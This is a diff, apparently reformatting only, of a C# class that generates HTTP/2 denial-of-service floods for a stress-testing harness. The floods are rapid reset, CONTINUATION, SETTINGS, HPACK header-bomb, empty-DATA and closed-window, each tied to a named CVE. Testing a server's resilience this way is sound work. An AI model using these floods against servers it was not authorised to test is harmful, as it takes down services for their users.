@@ -24,8 +24,11 @@ internal static class Http2Flood
         ["h2-window"] = ClosedWindows,
     };
 
-    /// <summary>An attack by each flood, in a process of its own that gets what the others leave of the processors: attackers sit on other machines.</summary>
-    public static IEnumerable<Attack> Attacks => Floods.Keys.Select(name => new Attack(name, (target, end) => RunApartAsync(name, target, end)));
+    /// <summary>
+    /// An attack by each flood, in a process of its own that gets what the others leave of the processors: attackers sit on other machines.
+    /// </summary>
+    public static IEnumerable<Attack> Attacks =>
+        Floods.Keys.Select(name => new Attack(name, (target, end) => RunApartAsync(name, target, end)));
 
     /// <summary>What the process of its own does: floods until its input ends, and tells what became of it.</summary>
     public static async Task<int> RunAsync(string name, Uri server)
@@ -41,7 +44,8 @@ internal static class Http2Flood
     private static async Task<string> RunApartAsync(string name, Target target, CancellationToken end)
     {
         string[] arguments = ["-n", "19", Environment.ProcessPath!, FloodCommand.Name, name, target.Http2.ToString()];
-        using var process = Process.Start(new ProcessStartInfo("nice", arguments) { RedirectStandardInput = true, RedirectStandardOutput = true })!;
+        using var process = Process.Start(
+            new ProcessStartInfo("nice", arguments) { RedirectStandardInput = true, RedirectStandardOutput = true })!;
         await end.WhenAsync();
         process.StandardInput.Close();
         return await process.StandardOutput.ReadToEndAsync(CancellationToken.None);
@@ -49,11 +53,19 @@ internal static class Http2Flood
 
     /// <summary>Requests that are taken back at once (CVE-2023-44487).</summary>
     private static void Resets(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
-        [.. Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss")), .. Http2Peer.Frame(Reset, 0, stream, [0, 0, 0, 8])], end);
+        [
+            .. Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss")),
+            .. Http2Peer.Frame(Reset, 0, stream, [0, 0, 0, 8])
+        ],
+        end);
 
     /// <summary>A request whose fields do not end (CVE-2024-27316).</summary>
-    private static void Continuations(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
-        stream == 1 ? Http2Peer.Frame(Headers, 0, 1, Http2Peer.Get(target.Http2, "/feed.rss")) : Http2Peer.Frame(Continuation, 0, 1, [0x00, 0x01, (byte)'a', 0x01, (byte)'b']), end);
+    private static void Continuations(Target target, FloodCount count, CancellationToken end) =>
+        Flood(target, count, doesRead: true, stream =>
+            stream == 1
+                ? Http2Peer.Frame(Headers, 0, 1, Http2Peer.Get(target.Http2, "/feed.rss"))
+                : Http2Peer.Frame(Continuation, 0, 1, [0x00, 0x01, (byte)'a', 0x01, (byte)'b']),
+            end);
 
     /// <summary>Settings, each of which wants an acknowledgement that nobody reads (CVE-2019-9515).</summary>
     private static void Settings(Target target, FloodCount count, CancellationToken end) =>
@@ -65,18 +77,29 @@ internal static class Http2Flood
 
     /// <summary>Many more requests than may be open at a time.</summary>
     private static void Streams(Target target, FloodCount count, CancellationToken end) =>
-        Flood(target, count, doesRead: true, stream => Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss?limit=100")), end);
+        Flood(
+            target,
+            count,
+            doesRead: true,
+            stream => Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, Http2Peer.Get(target.Http2, "/feed.rss?limit=100")),
+            end);
 
     /// <summary>Few bytes that stand for many: a large field in the dynamic table, used a thousand times (CVE-2016-6581).</summary>
-    private static void HeaderBombs(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
-    {
-        byte[] large = [0x40, 0x01, (byte)'a', 0x7F, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'b', 127 + 0x21 + (0x1E << 7))];
-        return Http2Peer.Frame(Headers, EndHeaders | EndStream, stream, [.. Http2Peer.Get(target.Http2, "/feed.rss"), .. large, .. Enumerable.Repeat((byte)0xBE, 1_000)]);
-    }, end);
+    private static void HeaderBombs(Target target, FloodCount count, CancellationToken end) =>
+        Flood(target, count, doesRead: true, stream =>
+        {
+            byte[] large = [0x40, 0x01, (byte)'a', 0x7F, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'b', 127 + 0x21 + (0x1E << 7))];
+            return Http2Peer.Frame(
+                Headers,
+                EndHeaders | EndStream,
+                stream,
+                [.. Http2Peer.Get(target.Http2, "/feed.rss"), .. large, .. Enumerable.Repeat((byte)0xBE, 1_000)]);
+        }, end);
 
     /// <summary>Bodies of empty frames that do not end (CVE-2019-9518).</summary>
     private static void EmptyData(Target target, FloodCount count, CancellationToken end) => Flood(target, count, doesRead: true, stream =>
-        stream == 1 ? Http2Peer.Frame(Headers, EndHeaders, 1, Http2Peer.Get(target.Http2, "/feed.rss")) : Http2Peer.Frame(Data, 0, 1, []), end);
+        stream == 1 ? Http2Peer.Frame(Headers, EndHeaders, 1, Http2Peer.Get(target.Http2, "/feed.rss")) : Http2Peer.Frame(Data, 0, 1, []),
+        end);
 
     /// <summary>Requests for a large feed by someone who takes none of it (CVE-2019-9511, CVE-2019-9517).</summary>
     private static void ClosedWindows(Target target, FloodCount count, CancellationToken end)
@@ -129,7 +152,12 @@ internal static class Http2Flood
     private static async Task<string> RunAsync(Target target, Action<Target, FloodCount, CancellationToken> flood, CancellationToken end)
     {
         var count = new FloodCount();
-        Task[] peers = [.. Enumerable.Range(0, Connections).Select(_ => Task.Factory.StartNew(() => Repeat(() => flood(target, count, end), end), CancellationToken.None, TaskCreationOptions.LongRunning, TaskScheduler.Default))];
+        Task[] peers = [.. Enumerable.Range(0, Connections)
+            .Select(_ => Task.Factory.StartNew(
+                () => Repeat(() => flood(target, count, end), end),
+                CancellationToken.None,
+                TaskCreationOptions.LongRunning,
+                TaskScheduler.Default))];
         await Task.WhenAll(peers);
         return string.Create(CultureInfo.InvariantCulture, $"{count}");
     }
